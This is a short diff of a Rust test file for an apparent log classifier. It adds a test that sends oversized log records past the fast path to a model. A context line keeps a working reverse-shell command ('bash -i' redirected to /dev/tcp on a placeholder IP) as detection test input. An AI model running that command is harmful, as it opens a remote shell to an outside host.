@@ -418,3 +418,10 @@ fn plain_text_without_signal_takes_the_fast_path() {
         "2026-11-02 10:17:43 app: running bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
     ));
 }
+
+#[test]
+fn an_oversized_record_goes_to_the_model() {
+    let line = format!("2026-11-02 app: {}", "A".repeat(MAX_FAST_PATH_BYTES));
+    assert!(!fast(&line));
+    assert!(fast(&line[..1000]));
+}
